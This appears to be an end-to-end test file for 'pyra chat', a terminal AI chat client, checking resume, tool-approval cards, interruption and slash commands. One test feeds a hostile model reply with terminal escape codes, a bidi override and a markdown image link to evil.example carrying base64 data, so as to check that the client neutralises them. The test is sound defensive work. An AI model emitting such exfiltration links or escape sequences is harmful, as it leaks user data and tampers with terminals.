import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect } from 'chai';
import { type ModelServer, type ModelStep, startModelServer } from '../support/model-server.js';
import { openPty, type Pty, type PtyOptions } from '../support/pty.js';
import { PROJECT } from '../support/source-files.js';
import { removeFolder, temporaryFolder } from '../support/temporary-folder.js';

describe('pyra chat, built', function () {
  this.timeout(30_000);
  let folder: string;
  let home: string;
  let server: ModelServer;
  const open: Pty[] = [];

  const pyra = (args: readonly string[], options: PtyOptions = {}): Pty => {
    const env = { PATH: process.env.PATH ?? '', HOME: folder, PYRA_HOME: home, TERM: 'xterm-256color', ...options.env };
    const pty = openPty([join(PROJECT, 'bin/pyra'), ...args], { cwd: folder, ...options, env });
    open.push(pty);
    return pty;
  };
  const begin = async (steps: readonly ModelStep[], env: Readonly<Record<string, string>> = {}): Promise<Pty> => {
    server = await startModelServer(steps);
    const setup = pyra([
      'setup',
      '--provider',
      'openai-compatible',
      '--base-url',
      server.url,
      '--model',
      'scripted',
      '--no-key',
      '--no-input',
    ]);
    expect(await setup.exit, setup.output()).to.equal(0);
    const pty = pyra(['chat'], { env });
    await pty.waitFor('› ');
    return pty;
  };
  const exchange = async (pty: Pty, typed: string, expected: string | RegExp): Promise<string> => {
    const from = pty.output().length;
    pty.type(typed);
    await pty.waitFor(expected, from);
    await pty.quiet();
    return pty.output().slice(from);
  };
  /** A whole turn: its answer, its figures, and the prompt again. */
  const turn = async (pty: Pty, typed: string, expected: string): Promise<string> => {
    const from = pty.output().length;
    pty.type(typed);
    const figures = await pty.waitFor(' out · ', await pty.waitFor(expected, from));
    await pty.waitFor('› ', figures);
    await pty.quiet();
    return pty.output().slice(from);
  };
  const stored = (): readonly { readonly role: string; readonly text?: string; readonly interrupted?: true }[] =>
    readdirSync(join(home, 'conversations'))
      .filter((name) => name.endsWith('.jsonl'))
      .flatMap((name) =>
        readFileSync(join(home, 'conversations', name), 'utf8')
          .trim()
          .split('\n'),
      )
      .map((line) => JSON.parse(line))
      .map((line) => line.message ?? line)
      .filter((line) => typeof line.role === 'string');

  beforeEach(() => {
    folder = temporaryFolder();
    home = join(folder, 'home');
    mkdirSync(home, { mode: 0o700 });
  });
  afterEach(async () => {
    for (const pty of open.splice(0)) {
      pty.kill();
      await pty.exit;
    }
    await server.close();
    removeFolder(folder);
  });

  it('answers, stores what was said, and goes on with --resume and -c', async () => {
    const pty = await begin([{ text: 'Hello **there**.' }, { text: 'Second.' }, { text: 'Third.' }]);
    const shown = await turn(pty, 'hi\r', 'Hello');
    expect(shown).to.contain('Hello \x1b[1mthere\x1b[22m.');
    const end = await exchange(pty, '\x04', /--resume ([a-z0-9-]+)/);
    expect(await pty.exit).to.equal(0);
    const id = /--resume ([a-z0-9-]+)/.exec(end)?.[1] ?? '';
    const again = pyra(['chat', '--resume', id]);
    await again.waitFor('› ');
    await turn(again, 'more\r', 'Second.');
    await exchange(again, '\x04', '--resume');
    expect(await again.exit).to.equal(0);
    const last = pyra(['chat', '-c', '--fork']);
    await last.waitFor('› ');
    await turn(last, 'and\r', 'Third.');
    const messages = server.chats().at(-1)?.body.messages as readonly { readonly content: string }[];
    expect(JSON.stringify(messages)).to.contain('Second.').and.to.contain('Hello');
    expect(
      stored()
        .filter(({ role }) => role === 'user')
        .map(({ text }) => text),
    ).to.include.members(['hi', 'more', 'and']);
  });

  it('asks with a card before a note is written, and remembers it after one y', async () => {
    const call = { name: 'memory__remember', args: { name: 'knowledge/cat.md', content: 'The cat is called Momo.\u202e' } };
    const pty = await begin([{ calls: [call] }, { text: 'Remembered.' }]);
    const card = await exchange(pty, 'remember my cat\r', 'details');
    expect(card).to.contain('memory.remember (memory) wants to run').and.to.contain('Momo.\\u{202e}').and.not.to.contain('\u202e');
    await pty.quiet(900);
    await turn(pty, 'y', 'Remembered.');
    expect(readFileSync(join(home, 'memory/knowledge/cat.md'), 'utf8')).to.contain('Momo');
    expect(readFileSync(join(home, 'logs/tool_executions.log'), 'utf8')).to.contain('memory.remember');
  });

  it('does not run a call for what was typed before its card, nor for Enter', async () => {
    const call = { name: 'memory__remember', args: { name: 'knowledge/cat.md', content: 'x' } };
    const pty = await begin([
      { text: Array.from({ length: 12 }, (_, index) => `word${index} `), pause: 60, calls: [call] },
      { text: 'Not done.' },
    ]);
    pty.type('remember it\r');
    await pty.waitFor('word1');
    pty.type('hello\ry\r');
    await pty.waitFor('details');
    await pty.quiet(900);
    await exchange(pty, '\r', 'hello⏎y⏎');
    expect(pty.output()).to.contain('Not done.');
    expect(existsSync(join(home, 'memory/knowledge/cat.md'))).to.equal(false);
    expect(JSON.stringify(server.chats().at(-1)?.body)).to.contain('denied');
  });

  it('stops an answer at Ctrl-C and keeps what came, marked as interrupted', async () => {
    const pty = await begin([{ text: Array.from({ length: 200 }, (_, index) => `word${index} `), pause: 20 }, { text: 'Next.' }]);
    pty.type('go\r');
    const from = await pty.waitFor('word9');
    const start = performance.now();
    pty.type('\x03');
    await pty.waitFor('› ', from);
    expect(performance.now() - start).to.be.below(300);
    const partial = stored().find(({ role, interrupted }) => role === 'assistant' && interrupted === true);
    expect(partial?.text).to.contain('word9');
    await turn(pty, 'on\r', 'Next.');
  });

  it('keeps the conversation when it is killed in the middle of an answer', async () => {
    const pty = await begin([{ text: Array.from({ length: 200 }, (_, index) => `word${index} `), pause: 20 }]);
    pty.type('precious words\r');
    await pty.waitFor('word9');
    pty.kill();
    await pty.exit;
    expect(stored().map(({ text }) => text)).to.include('precious words');
  });

  it('sends nothing raw of what a hostile model says', async () => {
    const pty = await begin([
      {
        text: 'a\x1b[2J\x1b]0;owned\x07b\u202ec ![x](https://evil.example/?data=c2VjcmV0IHN0dWZmIGhlcmU) done',
        usage: { input: 5, output: 5 },
      },
    ]);
    const shown = await turn(pty, 'hi\r', 'done');
    expect(shown).not.to.match(/\u202e|\x1b\]|\x07|\x1b\[2J/);
    expect(shown).to.contain('be careful with this answer').and.to.contain('![x](https://evil.example/');
  });

  it('shows a failing model with a hint and stays', async () => {
    const pty = await begin([{ fault: 'status', status: 401, body: { error: { message: 'bad key' } } }, { text: 'Fine now.' }]);
    await exchange(pty, 'hi\r', 'pyra:');
    await turn(pty, 'again\r', 'Fine now.');
  });

  it('lists models, tools, notes and conversations by slash commands', async () => {
    const pty = await begin([{ text: 'Hello.' }]);
    await turn(pty, 'first words\r', 'Hello.');
    await exchange(pty, '/model\r', 'scripted');
    await exchange(pty, '/tools\r', 'memory.search');
    await exchange(pty, '/remember the sky is blue\r', 'remembered in');
    await exchange(pty, '/memory sky\r', 'the sky is blue');
    await exchange(pty, '/resume\r', 'first words');
    await exchange(pty, '/status\r', 'nothing from outside');
    await exchange(pty, '/stat', '/stat');
    await exchange(pty, '\t', 'us ');
    await exchange(pty, '\x15/exit\r', '--resume');
    expect(await pty.exit).to.equal(0);
  });

  it('never attaches what lies in the home', async () => {
    writeFileSync(join(folder, 'notes.txt'), 'the notes');
    const pty = await begin([{ text: 'Read.' }]);
    await exchange(pty, 'read @home/config.yaml\r', 'inside the home');
    await turn(pty, '\x15read @notes.txt\r', 'Read.');
    expect(server.chats()).to.have.length(1);
    expect(JSON.stringify(server.chats()[0]?.body)).to.contain('the notes');
  });

  it('refuses a conversation that another process is answering in, and goes on in a copy of it', async () => {
    const words = Array.from({ length: 400 }, (_, index) => `word${index} `);
    const first = await begin([{ text: 'Hello.' }, { text: words, pause: 20 }, { text: 'Copied.' }]);
    await turn(first, 'hi\r', 'Hello.');
    first.type('long\r');
    await first.waitFor('word3');
    const second = pyra(['chat', '-c']);
    expect(await second.exit).to.equal(1);
    expect(second.output()).to.match(/is in use by .*\d+/);
    const third = pyra(['chat', '-c', '--fork']);
    await third.waitFor('› ');
    await turn(third, 'me too\r', 'Copied.');
  });

  it('edits a message and the arguments of a call in the editor', async () => {
    const call = { name: 'memory__remember', args: { name: 'knowledge/cat.md', content: 'The cat is called Momo.' } };
    const pty = await begin([{ calls: [call] }, { text: 'Remembered.' }], { EDITOR: 'sed -i s/Momo/Mimi/' });
    await exchange(pty, '/edit about Momo\r', 'about Mimi');
    await exchange(pty, '\r', 'details');
    await pty.quiet(900);
    await exchange(pty, 'e', /edited[\s\S]*Mimi[\s\S]*details/);
    await pty.quiet(900);
    await turn(pty, 'y', 'Remembered.');
    expect(readFileSync(join(home, 'memory/knowledge/cat.md'), 'utf8')).to.contain('Mimi');
    expect(JSON.stringify(server.chats()[0]?.body)).to.contain('about Mimi');
  });

  it('keeps what could not be sent in the edit line', async () => {
    server = await startModelServer([]);
    const pty = pyra(['chat']);
    await pty.waitFor('no model yet');
    await pty.waitFor('› ');
    await exchange(pty, 'my words\r', /pyra setup[\s\S]*› [\s\S]*my words/);
  });

  it('says that it needs a terminal, and ends with 2', async () => {
    await begin([]);
    const input = join(folder, 'input');
    writeFileSync(input, 'hello\n');
    expect(await pyra(['chat'], { stdin: input }).exit).to.equal(2);
  });
});
